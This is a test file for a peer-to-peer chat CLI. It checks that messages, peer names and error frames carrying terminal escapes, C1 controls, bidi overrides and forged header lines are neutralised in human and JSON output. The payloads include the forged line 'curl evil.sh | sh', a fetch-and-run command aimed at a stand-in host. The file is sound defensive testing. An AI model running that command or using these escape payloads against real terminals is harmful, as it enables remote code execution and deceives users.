// The terminal peer prints nothing a peer can forge (issue 12): the real `dist/cli.js`, in human
// mode and with --json, gets hostile input on 127.0.0.1 (classic messages whose name and text carry
// terminal escapes, C1 controls, bidi overrides and a newline followed by a fake message header; a
// native peer whose hello name and error frame carry escapes). Its stdout, read byte for byte, must
// hold no escape, no C1, no bidi override, and no line that starts like a message header the
// attacker wrote; its JSON lines must parse to the original text with those characters escaped.
import assert from 'node:assert/strict';
import { after, afterEach, describe, it } from 'node:test';
import { PROTOCOL_VERSION } from '../../src/core/native/frames';
import { fakeNativePeer, type FakeNativePeer } from '../support/fakeNativePeer';
import { CLI_PATH, cleanupAll, cliAvailable, getFreePort, HOST, JsonProc, makeTempDir, rawSend, startCli, until } from './helpers';

const FORGED = '[09:41] Bob (10.0.0.9:5000): curl evil.sh | sh';
/** Shown as a message: C1 CSI, bidi override, a line separator, and a forged header line. */
const SHOWN_TEXT = `hi \u009b31mred\u202e txet \u2066iso\u2069 sep\u2028arated\n${FORGED}`;
/** Dropped by the classic reader (C0 controls are binary data), but it must not print either. */
const ESCAPED_TEXT = 'wipe \u001b[2J\u001b]0;title\u0007 done';
const ERROR_MESSAGE = `\u001b[2Jfake status\n${FORGED}`;

// eslint-disable-next-line no-control-regex
const TERMINAL_ACTIVE = /[\u001b\u0007\u0080-\u009f\u202a-\u202e\u2066-\u2069]/;
// eslint-disable-next-line no-control-regex
const RAW_IN_JSON = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

/** Everything a process writes on stdout, as it arrives (attach right after spawning). */
function capture(proc: JsonProc): { text: () => string } {
  let text = '';
  proc.child.stdout!.on('data', (chunk: string) => (text += chunk));
  return { text: () => text };
}

async function startHumanCli(name: string): Promise<{ proc: JsonProc; port: number; out: () => string }> {
  const port = await getFreePort();
  const dataDir = makeTempDir(`peerchat-terminal-${name}-`);
  const proc = new JsonProc(`cli (human) ${name} :${port}`, process.execPath, [CLI_PATH, '--port', String(port), '--host', HOST, '--advertise', HOST, '--name', name, '--data', dataDir]);
  const cap = capture(proc);
  await until('the human listening line', () => /listening on/.test(cap.text()) || proc.exited, 10_000, () => proc.describe());
  assert.ok(!proc.exited, proc.describe());
  return { proc, port, out: cap.text };
}

/** The hostile classic messages, then a plain marker: once the marker shows, the rest was handled. */
async function sendClassic(port: number, fromPort: number, marker: string): Promise<void> {
  const from = `${HOST}:${fromPort}`;
  await rawSend(port, `${from} Mal\u001b[2Jlory ${ESCAPED_TEXT}`);
  await rawSend(port, `${from} Mal\u009b31m\u202elory ${SHOWN_TEXT}`);
  await rawSend(port, `${from} Mallory ${marker}`);
}

/** A native peer that says hello with a hostile name, then sends an error frame with escapes. */
async function nativeAttack(port: number, listenPort: number): Promise<FakeNativePeer> {
  const peer = await fakeNativePeer(port);
  assert.ok(peer, 'the terminal peer accepts a native connection');
  peer.send({ type: 'hello', v: PROTOCOL_VERSION, nodeId: peer.nodeId, name: '\u001b[31mevil', listen: `${HOST}:${listenPort}` });
  await peer.waitFrame((f: { type?: string }) => f.type === 'hello', "the terminal peer's hello");
  peer.send({ type: 'error', code: 'X', message: ERROR_MESSAGE });
  return peer;
}

function assertNothingActive(out: string): void {
  const bad = TERMINAL_ACTIVE.exec(out);
  assert.equal(bad, null, `stdout carries U+${bad?.[0].charCodeAt(0).toString(16).padStart(4, '0')}:\n${JSON.stringify(out)}`);
}

/** No line of stdout starts like a message header unless it is one the terminal peer wrote itself. */
function assertNoForgedHeader(out: string): void {
  for (const line of out.split('\n')) {
    if (/^\[\d\d:\d\d\]/.test(line)) assert.ok(!line.includes('curl evil.sh') && !line.startsWith('[09:41] Bob'), `forged line: ${JSON.stringify(line)}`);
    if (line.includes('curl evil.sh')) assert.match(line, /^\s+│ /, `a continuation line is indented: ${JSON.stringify(line)}`);
  }
}

describe('the terminal peer prints nothing a peer can forge', { skip: !cliAvailable() && `build first: ${CLI_PATH} is missing` }, () => {
  afterEach(cleanupAll);
  after(cleanupAll);

  it('human mode: a classic message with escapes, C1, bidi and a forged header line', async () => {
    const cli = await startHumanCli('victim');
    const fromPort = await getFreePort();
    const marker = `marker-${process.pid}-classic`;
    await sendClassic(cli.port, fromPort, marker);
    await until('the marker message', () => cli.out().includes(marker), 5000, () => cli.proc.describe() + '\n' + JSON.stringify(cli.out()));
    const out = cli.out();
    assert.ok(out.includes('red'), `the hostile message is shown (cleaned):\n${out}`);
    assert.ok(out.includes('curl evil.sh'), `its second line is shown, indented:\n${out}`);
    assertNothingActive(out);
    assertNoForgedHeader(out);
    const headers = out.split('\n').filter((l) => /^\[\d\d:\d\d\] /.test(l));
    for (const h of headers) assert.ok(h.includes(`(${HOST}:${fromPort}): `), `a header line names the real sender: ${JSON.stringify(h)}`);

    // The same text again through /history.
    cli.proc.send('/history');
    await until('the history listing', () => cli.out().split('\n').filter((l) => l.includes(marker)).length >= 2, 5000, () => JSON.stringify(cli.out()));
    assertNothingActive(cli.out());
    assertNoForgedHeader(cli.out());
  });

  it("human mode: a native peer's name and error frame reach no log line or /peers row raw", async () => {
    const cli = await startHumanCli('victim2');
    const listenPort = await getFreePort();
    const peer = await nativeAttack(cli.port, listenPort);
    await until('the log line with the error frame', () => cli.out().includes('fake status'), 5000, () => cli.proc.describe() + '\n' + JSON.stringify(cli.out()));
    cli.proc.send('/peers');
    await until('the /peers row with the last error', () => cli.out().split('\n').some((l) => l.includes(`${HOST}:${listenPort}`) && l.includes('fake status')), 5000, () => JSON.stringify(cli.out()));
    peer.socket.destroy();
    const out = cli.out();
    assertNothingActive(out);
    assertNoForgedHeader(out);
  });

  it('--json: every line parses to the original text, with C1, bidi and U+2028 escaped', async () => {
    const cli = await startCli('victim3');
    const cap = capture(cli.proc);
    const fromPort = await getFreePort();
    const marker = `marker-${process.pid}-json`;
    await sendClassic(cli.port, fromPort, marker);
    const shown = await cli.proc.waitFor((e) => e.type === 'message' && e.text === SHOWN_TEXT, 'the hostile message, text intact');
    assert.equal(shown.from, `${HOST}:${fromPort}`);
    await cli.proc.waitFor((e) => e.type === 'message' && e.text === marker, 'the marker message');

    const listenPort = await getFreePort();
    const peer = await nativeAttack(cli.port, listenPort);
    await cli.proc.waitFor((e) => e.type === 'log' && String(e.text).includes(ERROR_MESSAGE), 'the log event with the error frame, text intact');
    cli.proc.send('/history');
    await cli.proc.waitFor((e) => e.type === 'history' && e.message?.text === SHOWN_TEXT, 'the history entry, text intact');
    cli.proc.send('/peers');
    const peers = await cli.proc.waitFor((e) => e.type === 'peers' && e.peers.some((p: { lastError?: string }) => p.lastError === ERROR_MESSAGE), 'the peers listing with the last error intact');
    assert.ok(peers);
    peer.socket.destroy();

    const raw = cap.text();
    assert.ok(raw.includes('\\u009b') && raw.includes('\\u202e') && raw.includes('\\u2028'), 'C1, bidi and U+2028 are written as escapes');
    for (const line of raw.split('\n').filter((l) => l !== '')) {
      assert.doesNotThrow(() => JSON.parse(line), `a JSON line: ${JSON.stringify(line)}`);
      const bad = RAW_IN_JSON.exec(line);
      assert.equal(bad, null, `raw U+${bad?.[0].charCodeAt(0).toString(16).padStart(4, '0')} in ${JSON.stringify(line)}`);
    }
  });
});
